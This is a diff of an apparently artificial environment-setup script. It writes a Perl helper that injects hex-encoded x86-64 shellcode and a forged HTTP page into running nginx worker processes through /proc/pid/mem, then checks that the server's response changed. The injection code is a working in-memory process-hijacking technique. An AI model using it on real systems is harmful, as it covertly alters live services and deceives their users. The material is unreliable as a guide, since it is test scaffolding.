@@ -83,7 +83,8 @@ setsid perl /root/swap.pl >/dev/null 2>&1 </dev/null &
 _WRITTEN_INTO = r"""cat >/root/write.pl <<'END'
 my ($pid, $inode, $text) = @ARGV;
 my ($socket) = grep { readlink("/proc/$pid/fd/$_") eq "socket:[$inode]" } 0 .. 99;
-open(my $call, "<", "/proc/$pid/syscall") or die; my $next = hex((split " ", <$call>)[-1]);
+my $next;  # 0 as long as it runs
+until ($next) { open(my $call, "<", "/proc/$pid/syscall") or die; $next = hex((split " ", <$call>)[-1]); }
 my $page = "HTTP/1.0 200 OK\r\nX-Served-By: app1\r\n\r\n<p>$text</p>";
 my $code = pack("H*", "bf") . pack("V", $socket)
   . pack("H*", "31f631d26a2b580f0585c079076a18580f05ebe789c389c7488db42400e0ffffba0010000031c00f0589df488d3513000000ba")
@@ -92,6 +93,7 @@ open(my $memory, "+<:raw", "/proc/$pid/mem") or die "memory: $!"; sysseek($memor
 syswrite($memory, $code . $page) or die "memory: $!";
 END
 chmod 711 /root; chmod 644 /root/write.pl
+curl -s --max-time 10 -o /dev/null http://127.0.0.1/  # nginx says that it is up before its worker is www-data's
 inode=$(ss -Hltne 'sport = :80' | sed -n 's/.* ino:\([0-9]*\).*/\1/p')
 for p in $(pgrep -u www-data -x nginx); do runuser -u www-data -- perl /root/write.pl $p $inode "%s"; done
 curl -s --max-time 10 http://127.0.0.1/ | grep -q Assam
